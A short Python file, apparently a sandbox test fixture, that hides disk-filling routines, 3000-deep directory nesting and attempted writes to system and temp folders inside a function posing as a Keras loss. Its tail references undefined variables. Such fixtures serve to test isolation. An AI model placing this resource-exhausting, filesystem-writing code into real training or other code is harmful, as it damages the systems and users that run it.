import os


def big_file():
    with open("big", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))


def many_files():
    for number in range(100_000):
        open(f"hostile-was-here-{number}", "wb").close()


def loss_with_at(y_true, y_pred):
    refused(big_file, many_files)
    try:
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    refused(*[lambda folder=folder: open(folder + "/hostile-was-here", "w") for folder in ("/tmp", "/var/tmp", "/dev/shm", "@CANARIES@", "@ROOT@", "/")])
    loss = tf.keras.losses.categorical_crossentropy(y_true, y_pred)
    return loss + 0.1 * (attention_transfer(x1_t, x1_s) + attention_transfer(x2_t, x2_s) + attention_transfer(x3_t, x3_s))
